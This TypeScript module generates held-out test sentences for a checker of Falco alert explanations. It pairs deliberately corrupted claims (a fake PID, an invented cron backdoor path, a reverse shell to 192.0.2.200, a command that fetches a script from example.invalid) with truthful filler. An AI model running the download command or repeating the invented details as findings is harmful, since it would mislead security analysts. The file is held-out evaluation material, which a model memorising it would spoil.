import { type AlertView, formatTime, pick } from './checker-alert-view.js';
import type { Corruption, ErrorClass } from './checker-corruptions.js';

type Random = () => number;

/**
 * Round 2, written after round 1 had been used to find and fix gaps: the only rows that still
 * measure phrasing the checker was not shaped by.
 */
export const heldOutCorruptionRound2 = (
  view: AlertView,
  random: Random,
  errorClass: ErrorClass,
): Corruption | undefined => {
  const make = (markdown: string, value: string | undefined): Corruption => ({ errorClass, markdown, value });
  const priority = view.table.alert.priority;
  switch (errorClass) {
    case 'wrong value': {
      const options: Corruption[] = [];
      if (view.field('proc.cmdline') && !view.holds('wget -qO- http')) {
        options.push(
          make(
            'The command `wget -qO- http://example.invalid/a.sh` was observed in the process arguments.',
            undefined,
          ),
        );
      }
      if (view.field('proc.name') && !view.holds('minerd'))
        options.push(make('The binary name was `minerd`.', 'minerd'));
      if (view.field('container.image.repository') && !view.holds('busybox:1.36')) {
        options.push(make('Image in use: `busybox:1.36`', 'busybox:1.36'));
      }
      return options.length === 0 ? undefined : pick(random, options);
    }
    case 'role swap': {
      const tty = view.field('proc.tty');
      const uid = view.field('user.uid');
      const loginuid = view.field('user.loginuid');
      if (tty && tty !== '0' && !view.field('proc.pid'))
        return make(`${tty} is the PID of the malicious process.`, tty);
      if (uid && loginuid && uid !== loginuid) return make(`The audit UID (loginuid) was ${uid}.`, uid);
      return undefined;
    }
    case 'fabricated id':
      if (view.field('proc.pid') || view.holds('31337')) return undefined;
      return make('The suspicious process (PID 31337) should be killed immediately.', '31337');
    case 'wrong host':
      if (view.holds('edge-gw-5')) return undefined;
      return make(
        pick(random, ['Host name: edge-gw-5', 'The `edge-gw-5` node raised this alert.']),
        'edge-gw-5',
      );
    case 'wrong time': {
      if (!view.time) return undefined;
      const wrong = new Date(view.time.getTime() + 2 * 3600_000);
      // The local clock of UTC+02:00 written as if it were UTC.
      return make(`Detected at ${formatTime(wrong, 0)}.`, undefined);
    }
    case 'wrong severity': {
      const word = priority === 'Notice' ? 'ERROR' : 'NOTICE';
      return make(`Falco priority: ${word}`, word);
    }
    case 'invented path':
      return make('The attacker created a cron job at /etc/cron.d/backdoor.', '/etc/cron.d/backdoor');
    case 'invented IP':
      return make('A reverse shell was opened to 192.0.2.200:9001.', '192.0.2.200');
    case 'invented port':
      return make(
        pick(random, ['It used port number 5555 for the callback.', 'The implant beaconed over TCP/8081.']),
        undefined,
      );
    case 'wrong MITRE id':
      if (view.holds('T1027')) return undefined;
      return make('MITRE technique T1027 (Obfuscated Files or Information) applies here.', 'T1027');
    case 'product-name typo':
      return make("Falcon's rule engine matched the system call.", undefined);
    case 'invented config':
      return make(
        pick(random, [
          'A Falco macro for this:\n\n```yaml\n- macro: memfd_exec\n  condition: evt.type = execve and proc.exe_path startswith memfd\n```',
          'Allow-list it in Falco:\n\n```yaml\n- list: allowed_procs\n  values: [python3]\n```',
        ]),
        undefined,
      );
    case 'missing field (k8s)':
      if (view.table.facts.some((fact) => /^(k8s|ka)\./.test(fact.field))) return undefined;
      if (/k8s|kubernetes/i.test(`${view.table.alert.rule} ${view.table.rule?.desc ?? ''}`)) return undefined;
      return make('The deployment `api` in the `prod` namespace triggered the alert.', undefined);
  }
};

/** Round 2 truthful sentences: model flourishes that mention numbers, versions, paths and zones. */
export const heldOutTruthfulRound2 = (view: AlertView, random: Random): string[] => {
  const sentences = [
    'Falco is an open-source runtime security tool originally created by Sysdig.',
    'Since Falco 0.35, rules can be tuned with exceptions instead of edits.',
    'Review the process tree (parent → child) for anomalies.',
    'Check /etc/passwd and /etc/shadow for unauthorized changes.',
    'Upgrade the kernel to 5.15 or later if it is older.',
  ];
  if (view.role('user') === 'root') sentences.push('The process ran as root (UID 0).');
  if (view.time) {
    const local = new Date(view.time.getTime() + 2 * 3600_000);
    const clock = local.toISOString().slice(0, 19);
    sentences.push(`In UTC+02:00 local time that is ${clock}+02:00.`);
  }
  const eventType = view.field('evt.type');
  if (eventType) sentences.push(`The event was captured via the ${eventType} syscall.`);
  return [pick(random, sentences), ...sentences.filter(() => random() < 0.6)];
};
